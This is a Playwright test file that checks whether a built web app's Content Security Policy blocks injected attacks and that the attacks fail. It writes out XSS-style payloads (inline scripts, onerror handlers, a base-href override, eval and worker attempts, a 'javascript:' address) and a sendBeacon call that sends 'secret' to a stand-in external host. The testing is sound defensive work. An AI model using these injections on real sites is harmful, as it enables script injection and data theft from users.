/** The policy of the built app is in force: what an attacker would try first does not happen. */
import { expect, type Page, test } from "@playwright/test";
import { allowedBy, hashSource, metaPolicy } from "../../src/cli/contentSecurityPolicy";

const ELSEWHERE = "https://elsewhere.example";
const CHOSEN = "https://chosen.example";

/** Runs in the page as one of its own files, since what a test evaluates there is not bound by the policy. */
const PROBE = `
window.ran = [];
window.refused = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
const attempt = (name, run) => { try { run(); } catch { refused.push("thrown: " + name); } };
addEventListener("load", () => setTimeout(() => {
  attempt("eval", () => eval("ran.push('eval')"));
  attempt("Function", () => new Function("ran.push('Function')")());
  attempt("setTimeout", () => setTimeout("ran.push('setTimeout')"));
  attempt("innerHTML", () => { document.body.appendChild(document.createElement("div")).innerHTML = "<img src=x onerror=ran.push('innerHTML')>"; });
  attempt("script text", () => { const script = document.createElement("script"); script.textContent = "ran.push('text')"; document.head.append(script); });
  attempt("text node", () => { const script = document.createElement("script"); script.append("ran.push('node')"); document.head.append(script); });
  attempt("script address", () => { const script = document.createElement("script"); script.src = "${ELSEWHERE}/a.js"; document.head.append(script); });
  attempt("worker", () => new Worker("${ELSEWHERE}/worker.js"));
  attempt("blob worker", () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))).addEventListener("message", () => ran.push("worker")));
  attempt("policy", () => trustedTypes.createPolicy("mine", { createHTML: (text) => text }));
  attempt("handler", () => document.body.setAttribute("onclick", "ran.push('onclick')"));
  document.body.append(Object.assign(new Image(), { src: "${ELSEWHERE}/a.png" }));
  document.body.append(Object.assign(document.createElement("iframe"), { src: "${ELSEWHERE}/frame" }));
  navigator.sendBeacon("${ELSEWHERE}/beacon", "secret");
  setTimeout(() => { window.probed = true; }, 500);
}, 500));
`;

/** Serves the page with markup in it that an attacker would have smuggled there. */
async function smuggle(page: Page, markup: string) {
  await page.route("**/assets/probe.js", (route) => route.fulfill({ contentType: "text/javascript", body: PROBE }));
  await page.route(
    (url) => url.pathname === "/weprotect/about",
    async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace(
        "</head>",
        `<script src="/assets/probe.js"></script>${markup}</head>`,
      );
      await route.fulfill({ response, body });
    },
  );
}

/** Notes what reaches other origins, and answers it. */
async function listen(page: Page) {
  const asked: string[] = [];
  await page.route(/^https:/, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ headers: { "access-control-allow-origin": "*" }, body: "{}" });
  });
  return asked;
}

/** Whether the page may fetch an address. */
const reach = (page: Page, address: string) =>
  page.evaluate(
    (url) =>
      fetch(url)
        .then(({ ok }) => ok)
        .catch(() => false),
    address,
  );

test("no inline script, no code made from text, nothing from elsewhere", async ({ page }) => {
  const asked = await listen(page);
  await smuggle(
    page,
    `<script>ran.push("inline")</script><script src="${ELSEWHERE}/b.js"></script><base href="${ELSEWHERE}/">
     <style>:root { --smuggled: 1 }</style><img src="x" onerror="ran.push('onerror')">`,
  );
  await page.goto("/weprotect/about");
  await expect.poll(() => page.evaluate("window.probed")).toBe(true);
  await page.locator("body").click({ position: { x: 1, y: 1 } });
  expect(await page.evaluate("window.ran")).toEqual([]);
  expect(asked).toEqual([]);
  expect(await page.evaluate(() => getComputedStyle(document.documentElement).getPropertyValue("--smuggled"))).toBe("");
  const refused = new Set<string>(await page.evaluate("window.refused"));
  for (const what of [
    "script-src-elem",
    "script-src-attr",
    "style-src-elem",
    "base-uri",
    "connect-src",
    "img-src",
    "frame-src",
  ]) {
    expect([...refused]).toContain(what);
  }
  for (const what of ["eval", "Function", "innerHTML", "script text", "script address", "worker", "policy"]) {
    expect([...refused]).toContain(`thrown: ${what}`);
  }
  // The app itself is not disturbed.
  await expect(page.getByRole("heading", { level: 1 })).toHaveText("About this record");
});

test("the page carries the policy that the build defines, before all that it loads", async ({ request }) => {
  const html = await (await request.get("/weprotect/about")).text();
  const styles = Array.from(html.matchAll(/<style>([^<]*)</g), ([, style = ""]) => hashSource(style));
  const [before = ""] = html.split(`content="${metaPolicy({ ...allowedBy(process.env), styles })}"`);
  expect(before.length).toBeLessThan(html.length);
  expect(before).not.toMatch(/<(script|link|style)/);
});

test("a page connects to its own deployment, and to the origin of the dataset that its address names", async ({
  page,
}) => {
  await listen(page);
  await page.goto("/weprotect/about");
  await page.getByRole("heading", { level: 1 }).waitFor();
  expect(await reach(page, "/data/catalog.json")).toBe(true);
  expect(await reach(page, `${CHOSEN}/a.json`)).toBe(false);
  expect(await reach(page, `${ELSEWHERE}/a.json`)).toBe(false);

  await page.goto(`/weprotect/about?data=${encodeURIComponent(`${CHOSEN}/datapackage.json`)}`);
  await page.getByRole("heading", { level: 1 }).waitFor();
  expect(await reach(page, "/data/catalog.json")).toBe(true);
  expect(await reach(page, `${CHOSEN}/a.json`)).toBe(true);
  expect(await reach(page, `${ELSEWHERE}/a.json`)).toBe(false);
});

test("an address that names no dataset opens the way to nobody", async ({ page }) => {
  await listen(page);
  for (const address of [
    "http://chosen.example/datapackage.json",
    "javascript:alert(1)",
    "//chosen.example",
    "https:",
    "https://*/",
    ";*",
  ]) {
    await test.step(`?data=${address}`, async () => {
      await page.goto(`/weprotect/about?data=${encodeURIComponent(address)}`);
      await page.getByRole("heading", { level: 1 }).waitFor();
      expect(await reach(page, "https://chosen.example/a.json")).toBe(false);
      expect(await reach(page, "/data/catalog.json")).toBe(true);
    });
  }
});
